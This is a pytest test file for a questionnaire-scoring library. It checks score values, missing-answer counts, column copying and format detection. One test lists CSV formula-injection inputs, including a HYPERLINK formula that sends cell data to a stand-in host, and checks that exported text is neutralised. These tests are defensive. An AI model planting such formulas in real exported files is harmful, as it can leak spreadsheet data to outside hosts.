"""A scored file says what the library says of each person, for every instrument that is shipped."""

from pathlib import Path

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from tests.factories.answer_files import (
    ECR_NAMES,
    drawn_answers,
    ecr_answers,
    ecr_file,
    read_table,
    write_table,
)

from homeport.content.instruments import Key, all_keys, golden_vectors, load_key
from homeport.core.errors import HomeportError
from homeport.psychometrics import eap
from homeport.psychometrics.files.layout import Wishes
from homeport.psychometrics.files.score_file import score_file
from homeport.psychometrics.files.scorers import ScaleScorer
from homeport.psychometrics.keys import item_bank, score_key
from homeport.psychometrics.reliability import alpha

KEYS = {key.id: key for key in all_keys()}


def score_column(key: Key, scale: str) -> str:
    found = key.scale(scale)
    plain = found.method in {"mean", "sum"} and found.multiplier == 1.0
    return f"{scale.replace('-', '_')}_{found.method if plain else 'score'}"


@pytest.mark.parametrize("name", sorted(KEYS))
def test_every_instrument_gives_its_golden_scores(name: str, tmp_path: Path) -> None:
    key = KEYS[name]
    for form in key.formats:
        vectors = [vector for vector in golden_vectors(key) if (vector.format or key.formats[0]) == form]
        rows = [
            ["" if (answer := v.answers.get(i)) is None else answer for i in key.item_ids] for v in vectors
        ]
        source = write_table(tmp_path / f"{form}.csv", key.item_ids, rows)
        out = tmp_path / "scores.csv"
        score_file(key, source, out, Wishes(format=form))
        for vector, row in zip(vectors, read_table(out), strict=True):
            for scale, expected in vector.scores.items():
                given = row[score_column(key, scale)]
                assert (float(given) if given else None) == pytest.approx(expected, abs=1e-6), (
                    vector.name,
                    scale,
                )
            for algorithm, outcome in vector.outcomes.items():
                assert (row[f"outcome_{algorithm}"] or None) == outcome, vector.name


def test_each_row_is_what_the_library_says_of_that_person(tmp_path: Path) -> None:
    key, answers = load_key("ecr"), ecr_answers(40).astype(object)
    answers[3, :20], answers[4, 5], answers[5, :] = "", "NA", ""
    source = write_table(tmp_path / "in.csv", ECR_NAMES, answers.tolist())
    score_file(key, source, tmp_path / "out.csv")
    for person, row in zip(answers.tolist(), read_table(tmp_path / "out.csv"), strict=True):
        raw = {
            item: int(answer)
            for item, answer in zip(key.item_ids, person, strict=True)
            if str(answer).isdigit()
        }
        for scale, score in score_key(key, raw, "five").items():
            bank = item_bank(key, scale, "five")
            assert bank is not None
            assert (float(row[f"{scale}_mean"]) if row[f"{scale}_mean"] else None) == pytest.approx(
                score.value
            )
            assert int(row[f"{scale}_answered"]) == score.answered
            if not score.answered:
                assert row[f"{scale}_eap"] == row[f"{scale}_se"] == ""
                continue
            place = eap(bank, bank.keyed_person(raw))
            assert float(row[f"{scale}_eap"]) == pytest.approx(place.theta, abs=1e-6)
            assert float(row[f"{scale}_se"]) == pytest.approx(place.se, abs=1e-6)


def test_the_figures_of_the_file_are_those_of_the_library(tmp_path: Path) -> None:
    key, answers = load_key("ecr"), ecr_answers(500)
    found = score_file(key, ecr_file(tmp_path / "in.csv", 500), tmp_path / "out.csv")
    for scale, each in found.scales.items():
        bank = item_bank(key, scale, "five")
        assert bank is not None
        keyed = bank.keyed_many(answers[:, [int(item[1:]) - 1 for item in bank.items]])
        assert each.alpha == pytest.approx(alpha(keyed))
        assert each.mean == pytest.approx(keyed.mean() + 1)
        assert each.sd == pytest.approx(keyed.mean(axis=1).std(ddof=1))
        assert each.scored == 500
        assert each.calibration.startswith("provisional")
    assert found.scored == found.tally.complete == 500


def test_gaps_are_counted_to_the_last_row_and_the_first_are_named(tmp_path: Path) -> None:
    rows = ecr_answers(300).astype(object)
    rows[9, 2], rows[10, 3], rows[11, 4], rows[250, 5] = "", 0, "often", 99
    source = write_table(tmp_path / "in.csv", ECR_NAMES, rows.tolist())
    found = score_file(load_key("ecr"), source, tmp_path / "out.csv", listed=3)
    tally = found.tally
    assert (tally.rows, tally.missing, tally.outside, tally.incomplete) == (300, 1, 3, 4)
    assert tally.values == {"0": 1, "often": 1, "99": 1}
    assert [str(problem) for problem in tally.problems] == [
        "row 10: missing q03",
        "row 11: q04 = 0",
        "row 12: q05 = often",
    ]


def test_parquet_in_and_out_give_the_same_numbers(tmp_path: Path) -> None:
    key, answers = load_key("ecr"), ecr_answers(50)
    table = pa.table({name: answers[:, place].astype(np.float32) for place, name in enumerate(ECR_NAMES)})
    pq.write_table(table, tmp_path / "in.parquet")
    score_file(key, tmp_path / "in.parquet", tmp_path / "out.parquet")
    score_file(key, ecr_file(tmp_path / "in.csv", 50), tmp_path / "out.csv")
    found = pq.read_table(tmp_path / "out.parquet").to_pylist()
    for one, other in zip(found, read_table(tmp_path / "out.csv"), strict=True):
        assert {name: float(value) for name, value in other.items()} == pytest.approx(one)


def test_columns_are_copied_along_only_when_asked(tmp_path: Path) -> None:
    names, answers = [*ECR_NAMES, "Code", "note"], ecr_answers(40).tolist()
    rows = [[*row, f"p{place}", 'a "b",\nc'] for place, row in enumerate(answers)]
    source = write_table(tmp_path / "in.csv", names, rows)
    found = score_file(load_key("ecr"), source, tmp_path / "out.csv", Wishes(keep=("code", "note", "Q1")))
    assert found.columns[:4] == ("row", "Code", "note", "Q1")
    written = read_table(tmp_path / "out.csv")
    assert [row["Code"] for row in written] == [f"p{place}" for place in range(40)]
    assert {row["note"] for row in written} == {'a "b",\nc'}
    assert [int(row["Q1"]) for row in written] == [row[0] for row in answers]
    score_file(load_key("ecr"), source, tmp_path / "out.csv")
    assert "Code" not in read_table(tmp_path / "out.csv")[0]
    with pytest.raises(HomeportError, match="no column 'sex'"):
        score_file(load_key("ecr"), source, tmp_path / "out.csv", Wishes(keep=("sex",)))


FORMULAS = (
    '=HYPERLINK("http://example.org?"&A1)', "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\n=1", "＝1", "＋1", "－1", "＠A1",
    "-", "=", "-5 °C", "+49 30 1",
)  # fmt: skip
NO_FORMULAS = ("-0.52", "-1,5", "+3", "-.5", "-1.2e-5", "+49", "p-1", "a=b", "'=1", " ", "", "me@example.org")


def test_a_kept_word_never_runs_in_a_spreadsheet_and_a_number_stays_one(tmp_path: Path) -> None:
    words = [*NO_FORMULAS, *FORMULAS]
    rows = [[*row, word] for row, word in zip(ecr_answers(len(words)).tolist(), words, strict=True)]
    source = write_table(tmp_path / "in.csv", [*ECR_NAMES, "=note"], rows)
    found = score_file(load_key("ecr"), source, tmp_path / "out.csv", Wishes(keep=("=note",)))
    assert found.columns[1] == "=note"
    written = read_table(tmp_path / "out.csv")
    assert [row["'=note"] for row in written] == [*NO_FORMULAS, *(f"'{word}" for word in FORMULAS)]
    estimates = [row["anxiety_eap"] for row in written]
    assert any(each.startswith("-") for each in estimates)
    assert not any(each.startswith("'") for each in estimates)
    score_file(load_key("ecr"), source, tmp_path / "out.parquet", Wishes(keep=("=note",)))
    assert pq.read_table(tmp_path / "out.parquet")["=note"].to_pylist() == words


def test_words_of_every_kind_a_parquet_file_has_are_made_harmless(tmp_path: Path) -> None:
    people = 20_000  # more than one batch, of which the first holds no formula
    columns = dict(zip(ECR_NAMES, ecr_answers(people).T, strict=True))
    words = ["ab"] * (people - 3) + ["=1", "\r1", None]
    kinds = {
        "string": pa.string(),
        "large": pa.large_string(),
        "bytes": pa.binary(),
        "fixed": pa.binary(2),
        "few": pa.dictionary(pa.int32(), pa.string()),
    }
    kept = {name: pa.array(words, kind) for name, kind in kinds.items()}
    kept["below"] = pa.array([-1.5] * people)
    pq.write_table(pa.table(columns | kept), tmp_path / "in.parquet")
    score_file(load_key("ecr"), tmp_path / "in.parquet", tmp_path / "out.csv", Wishes(keep=tuple(kept)))
    written = read_table(tmp_path / "out.csv")
    for name in kinds:
        assert [row[name] for row in (written[0], *written[-3:])] == ["ab", "'=1", "'\r1", ""], name
    assert {row["below"] for row in written} == {"-1.5"}


def test_a_kept_column_may_not_pose_as_a_score(tmp_path: Path) -> None:
    rows = [[*row, 1] for row in ecr_answers(40).tolist()]
    source = write_table(tmp_path / "in.csv", [*ECR_NAMES, "row"], rows)
    with pytest.raises(HomeportError, match="rename"):
        score_file(load_key("ecr"), source, tmp_path / "out.csv", Wishes(keep=("row",)))


def test_the_order_of_numbered_questions_is_told_by_alpha(tmp_path: Path) -> None:
    key = load_key("self.rses")
    answers = drawn_answers("self.rses", 400, response_format="one")
    worth_first = next(order for order in key.orders if order.name == "worth-first")
    shuffled = answers[:, [key.item_ids.index(item) for item in worth_first.items]]
    source = write_table(tmp_path / "in.csv", [f"Q{n}" for n in range(1, 11)], shuffled.tolist())
    found = score_file(key, source, tmp_path / "out.csv")
    assert found.layout.order == "worth-first"
    assert any("alpha" in note for note in found.notes)
    by_id = write_table(tmp_path / "ids.csv", key.item_ids, answers.tolist())
    score_file(key, by_id, tmp_path / "ids_out.csv")
    assert read_table(tmp_path / "ids_out.csv") == read_table(tmp_path / "out.csv")


def test_too_few_people_do_not_tell_the_order(tmp_path: Path) -> None:
    answers = drawn_answers("self.rses", 50, response_format="one")
    source = write_table(tmp_path / "in.csv", [f"Q{n}" for n in range(1, 11)], answers.tolist())
    with pytest.raises(HomeportError, match="--order satisfied-first or --order worth-first"):
        score_file(load_key("rses"), source, tmp_path / "out.csv")
    assert not (tmp_path / "out.csv").exists()


def test_a_file_that_changes_its_format_half_way_is_refused(tmp_path: Path) -> None:
    five = ecr_answers(30_000).tolist()
    seven = [[min(answer + 2, 7) for answer in row] for row in five[:10_000]]
    source = write_table(tmp_path / "in.csv", ECR_NAMES, five + seven)
    with pytest.raises(HomeportError, match="say --format"):
        score_file(load_key("ecr"), source, tmp_path / "out.csv")
    assert [path.name for path in tmp_path.iterdir()] == ["in.csv"]
    found = score_file(load_key("ecr"), source, tmp_path / "out.csv", Wishes(format="seven"))
    assert found.scored == 40_000


def test_seven_points_have_means_and_no_estimates(tmp_path: Path) -> None:
    rows = np.clip(ecr_answers(60) + np.tile([0, 2], 18), 1, 7).tolist()
    source = write_table(tmp_path / "in.csv", ECR_NAMES, rows)
    found = score_file(load_key("ecr"), source, tmp_path / "out.csv")
    assert found.layout.format == "seven"
    assert found.columns == (
        "row",
        "anxiety_mean",
        "anxiety_answered",
        "avoidance_mean",
        "avoidance_answered",
    )


def test_a_wrong_key_is_doubted(tmp_path: Path) -> None:
    answers = ecr_answers(400)
    answers[:, 2::3] = 6 - answers[:, 2::3]
    source = write_table(tmp_path / "in.csv", ECR_NAMES, answers.tolist())
    notes = score_file(load_key("ecr"), source, tmp_path / "out.csv").notes
    assert any("reversed" in note for note in notes)


def test_answers_that_nobody_gave_are_doubted(tmp_path: Path) -> None:
    source = ecr_file(tmp_path / "in.csv")
    notes = score_file(load_key("ecr-r"), source, tmp_path / "out.csv").notes
    assert any("Nobody answered 6 or 7 among 2,160 answers from 1 to 7" in note for note in notes)


def test_a_short_form_scores_its_own_questions(tmp_path: Path) -> None:
    key = load_key("attachment.homeport")
    form = key.forms[0]
    source = write_table(tmp_path / "in.csv", form.items, [[3] * len(form.items), [1] * len(form.items)])
    found = score_file(key, source, tmp_path / "out.csv")
    first, second = read_table(tmp_path / "out.csv")
    assert first["anxiety_mean"] == "3"
    assert (second["anxiety_answered"], second["avoidance_answered"]) == ("12", "12")
    assert found.tally.missing == 0


def test_many_batches_number_their_rows_on(tmp_path: Path) -> None:
    source = ecr_file(tmp_path / "in.csv", 30_000)
    shares: list[tuple[float, int]] = []
    score_file(
        load_key("ecr"), source, tmp_path / "out.csv", watch=lambda share, rows: shares.append((share, rows))
    )
    assert [int(row["row"]) for row in read_table(tmp_path / "out.csv")] == list(range(1, 30_001))
    assert len(shares) > 1
    assert shares == sorted(shares)
    assert shares[-1] == (1.0, 30_000)


def test_names_of_scores() -> None:
    from homeport.psychometrics.files.layout import Layout

    key = load_key("wellbeing.who-5")
    empty = np.zeros(5, dtype=np.int16)
    layout = Layout(key, "time", key.item_ids, (0, 1, 2, 3, 4), empty, empty, empty == 0)
    assert ScaleScorer(layout, key.scales[0]).score_names == ["wellbeing_score", "wellbeing_answered"]
